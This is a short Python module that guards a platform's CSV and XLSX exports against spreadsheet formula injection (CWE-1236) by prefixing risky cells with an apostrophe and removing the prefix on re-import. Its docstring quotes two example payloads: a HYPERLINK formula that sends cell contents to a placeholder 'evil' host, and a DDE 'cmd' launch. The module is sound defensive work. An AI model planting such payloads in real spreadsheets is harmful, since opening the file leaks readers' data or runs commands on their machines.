"""Spreadsheet-safe cells for every export (CSV and XLSX).

A cell whose text begins with ``= + - @`` (or a tab or carriage return, which some spreadsheet
programs skip before looking for those) is run as a formula when the file is opened: a need titled
``=HYPERLINK("http://evil/"&A1)`` or ``+cmd|' /C calc'!A0`` in a public needs list would act on every
reader's machine (CWE-1236). :func:`safe_cell` prefixes such text with an apostrophe, which the
spreadsheet shows as plain text; numbers stay numbers. :func:`unescape_cell` undoes it on import, so
the platform's own exports import again unchanged.

Every exporter calls :func:`safe_cell` on each value (or :func:`safe_row` on each row).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def unescape_cell(value: Any) -> Any:
    """The text an exported cell held before :func:`safe_cell` (for re-importing our own exports)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
